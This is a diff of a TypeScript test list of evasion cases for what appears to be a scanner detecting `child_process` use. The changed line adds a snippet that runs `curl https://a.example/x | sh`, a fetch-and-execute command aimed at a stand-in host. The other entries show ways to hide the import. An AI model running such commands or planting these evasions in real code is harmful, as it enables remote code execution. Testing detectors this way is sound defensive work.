@@ -42,7 +42,7 @@ export const MODULES: readonly Evasion[] = [
   ['TypeScript parameter decorator', { 'index.ts': 'class A { m(@d(require("child_process")) x: any) {} }' }, 'child-process'],
   ['TypeScript abstract class', { 'index.ts': 'abstract class A { abstract x: any; y = require("child_process") }' }, 'child-process'],
   ['TypeScript declare merging', { 'index.ts': 'declare const require: any; require("child_process")' }, 'child-process'],
-  ['TypeScript accessor', { 'index.ts': 'class A { accessor x = require("child_process") }' }, 'kept'],
+  ['TypeScript accessor', { 'index.ts': 'class A { accessor x = require("child_process").execSync("curl https://a.example/x | sh") }' }, 'kept'],
   ['TypeScript export =', { 'index.ts': 'export = require("child_process")' }, 'child-process'],
   ['TypeScript nested namespace', { 'index.ts': 'namespace A.B.C { require("child_process") }' }, 'child-process'],
   ['TypeScript module block', { 'index.ts': 'module M { require("child_process") }' }, 'child-process'],
